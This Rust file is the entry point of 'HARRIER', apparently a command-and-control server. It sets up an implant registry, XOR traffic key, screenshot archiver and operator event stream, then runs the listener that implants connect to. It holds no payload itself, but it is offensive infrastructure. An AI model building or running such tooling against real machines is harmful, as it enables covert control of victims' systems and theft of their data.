//! HARRIER implant-facing listener.
//!
//! Wires configuration, the optional database, the implant registry and the
//! operator event stream into the HTTP(S) listener, then serves until the
//! process dies. Configuration and bind failures are fatal; everything else
//! is logged and survived.

use std::path::Path;
use std::sync::Arc;

use tokio::sync::broadcast;
use tracing::{error, info, warn};
use tracing_subscriber::EnvFilter;
use uuid::Uuid;

mod config;
mod database;
mod listeners;
mod models;
mod services;


use config::Config;
use database::Database;
use harrier_crypto::XorKey;
use listeners::http::AppState;
use services::badrequest::BadRequestMonitor;
use services::events::EVENT_CHANNEL_CAPACITY;
use services::registry::ImplantRegistry;
use services::screenshot::PngArchiver;

#[tokio::main]
async fn main() {
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")),
        )
        .init();

    let config_path = Config::default_path();
    let config = match Config::load(&config_path) {
        Ok(config) => Arc::new(config),
        Err(error) => {
            error!(
                "could not load configuration from {}: {error}",
                config_path.display()
            );
            std::process::exit(1);
        }
    };

    let db = match std::env::var("DATABASE_URL") {
        Ok(url) => match Database::connect(&url).await {
            Ok(db) => {
                if let Err(error) = db.migrate(Path::new("./migrations")).await {
                    warn!(%error, "database migrations failed, persistence disabled");
                    Database::disabled()
                } else {
                    info!("database connected");
                    db
                }
            }
            Err(error) => {
                warn!(%error, "database unavailable, persistence disabled");
                Database::disabled()
            }
        },
        Err(_) => {
            warn!("DATABASE_URL not set, persistence disabled");
            Database::disabled()
        }
    };

    let (event_tx, _event_rx) = broadcast::channel(EVENT_CHANNEL_CAPACITY);

    let state = AppState {
        registry: Arc::new(ImplantRegistry::new()),
        db: Arc::new(db),
        xor_key: Arc::new(XorKey::generate()),
        bad_requests: Arc::new(BadRequestMonitor::new(event_tx.clone())),
        screenshot: Arc::new(PngArchiver::new(config.files.downloads_dir.clone())),
        server_id: Uuid::new_v4().to_string(),
        event_tx,
        config,
    };

    info!(server_id = %state.server_id, "starting implant listener");
    if let Err(error) = listeners::http::start_listener(state).await {
        error!(%error, "listener failed");
        std::process::exit(1);
    }
}
